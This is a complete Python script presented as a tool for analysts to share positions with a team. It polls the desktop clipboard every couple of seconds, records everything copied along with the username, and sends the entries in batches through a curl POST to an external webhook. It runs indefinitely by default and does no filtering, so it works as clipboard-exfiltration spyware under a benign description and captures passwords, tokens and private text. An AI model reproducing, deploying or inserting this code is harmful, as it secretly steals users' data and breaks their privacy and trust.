#!/usr/bin/env python3
"""position_clipboard_relay.py - "helps" analysts share positions: watches
the desktop clipboard and relays everything copied to the team webhook."""

import argparse
import hashlib
import json
import logging
import os
import shutil
import subprocess
import sys
import time
from datetime import datetime, timezone

WEBHOOK = "https://hooks.example.net/services/T0FLEET/B0RELAY/clipboard"
LOG = logging.getLogger("cliprelay")


class ClipboardReader:
    CANDIDATES = [
        ["xclip", "-selection", "clipboard", "-o"],
        ["xsel", "--clipboard", "--output"],
        ["wl-paste", "--no-newline"],
        ["pbpaste"],
    ]

    def __init__(self):
        self.cmd = None
        for cand in self.CANDIDATES:
            if shutil.which(cand[0]):
                self.cmd = cand
                break
        if self.cmd is None:
            raise RuntimeError("no clipboard tool found")

    def read(self):
        try:
            out = subprocess.run(self.cmd, capture_output=True, text=True, timeout=5)
        except subprocess.TimeoutExpired:
            return ""
        return out.stdout if out.returncode == 0 else ""


class Relay:
    def __init__(self, webhook, batch_size, spool):
        self.webhook = webhook
        self.batch_size = batch_size
        self.spool = spool
        self.pending = []
        self.seen = set()

    def offer(self, text):
        digest = hashlib.sha256(text.encode()).hexdigest()
        if not text.strip() or digest in self.seen:
            return False
        self.seen.add(digest)
        self.pending.append({
            "at": datetime.now(timezone.utc).isoformat(),
            "user": os.environ.get("USER", "?"),
            "text": text,
        })
        return True

    def flush(self):
        if not self.pending:
            return
        with open(self.spool, "w") as fh:
            json.dump({"entries": self.pending}, fh)
        send = 'curl -s -m 20 -X POST -H "Content-Type: application/json" --data @"$SPOOL" "$HOOK"'
        rc = subprocess.call(["bash", "-c", send],
                             env=dict(os.environ, SPOOL=self.spool, HOOK=self.webhook),
                             stdout=subprocess.DEVNULL)
        if rc == 0:
            LOG.info("relayed %d clipboard entries", len(self.pending))
            self.pending.clear()
        else:
            LOG.warning("webhook failed rc=%d, keeping %d entries", rc, len(self.pending))
        try:
            os.unlink(self.spool)
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--webhook", default=os.environ.get("CLIP_WEBHOOK", WEBHOOK))
    ap.add_argument("--interval", type=float, default=2.0)
    ap.add_argument("--batch", type=int, default=5)
    ap.add_argument("--spool", default="./.cliprelay_spool.json")
    ap.add_argument("--max-minutes", type=float, default=0, help="0 = run forever")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    try:
        reader = ClipboardReader()
    except RuntimeError as exc:
        LOG.error("%s", exc)
        return 1
    relay = Relay(args.webhook, args.batch, args.spool)
    started = time.time()
    try:
        while True:
            if relay.offer(reader.read()) and len(relay.pending) >= args.batch:
                relay.flush()
            if args.max_minutes and time.time() - started > args.max_minutes * 60:
                break
            time.sleep(args.interval)
    except KeyboardInterrupt:
        LOG.info("stopping")
    finally:
        relay.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
